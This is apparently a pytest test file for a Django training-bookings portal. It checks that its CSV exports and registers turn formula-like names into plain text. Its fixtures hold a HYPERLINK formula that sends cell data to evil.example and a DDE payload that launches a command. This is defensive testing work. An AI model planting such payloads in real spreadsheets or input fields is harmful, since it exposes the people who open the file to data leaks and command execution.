"""Our bookings, the all-schools export and registers: a name typed into the portal reaches a
spreadsheet as text, never as a formula."""

from __future__ import annotations

import csv
import io

import pytest
from django.urls import reverse

from members.models import Person
from programmes.services import booking_create

pytestmark = pytest.mark.django_db

LINK = '=HYPERLINK("https://evil.example/?"&A1,"Click for your certificate")'
TITLE = "@SUM(1+1)*cmd|' /C calc'!A0"


@pytest.fixture
def booked(head, bellenden, make_programme, make_session):
    """A delegate and a programme with names a spreadsheet would run, booked by the head."""
    session = make_session(make_programme(title=TITLE))
    delegate = Person.objects.create(
        full_name=LINK, email="formula@bellenden.test", organisation=bellenden
    )
    booking_create(actor=head, organisation=bellenden, sessions=[session], delegates=[delegate])
    return session


def _rows(response) -> list[list[str]]:
    assert response["Content-Type"].startswith("text/csv")
    body = b"".join(response.streaming_content)
    assert body.startswith("\ufeff".encode())  # Excel then reads names as UTF-8
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))


@pytest.mark.parametrize("persona", ["head", "director"])
def test_it_neutralises_formulas_in_the_bookings_export(login, booked, persona):
    """Our bookings for the head; every school's bookings for the director."""
    response = login(persona).get(reverse("programmes:booking-export", args=["southwark"]))
    rows = _rows(response)
    assert rows[0][:4] == ["Delegate", "Email", "School", "Programme"]
    [row] = [row for row in rows if row[1] == "formula@bellenden.test"]
    assert row[0] == f"'{LINK}"
    assert row[3] == f"'{TITLE}"
    assert row[-1] == "0.00"


def test_it_neutralises_formulas_in_the_register(login, booked):
    url = reverse("programmes:session-register-csv", args=["southwark", booked.pk])
    rows = _rows(login("cpd-lead").get(url))
    assert rows[0][0] == "Delegate"
    assert rows[1][:2] == [f"'{LINK}", "formula@bellenden.test"]
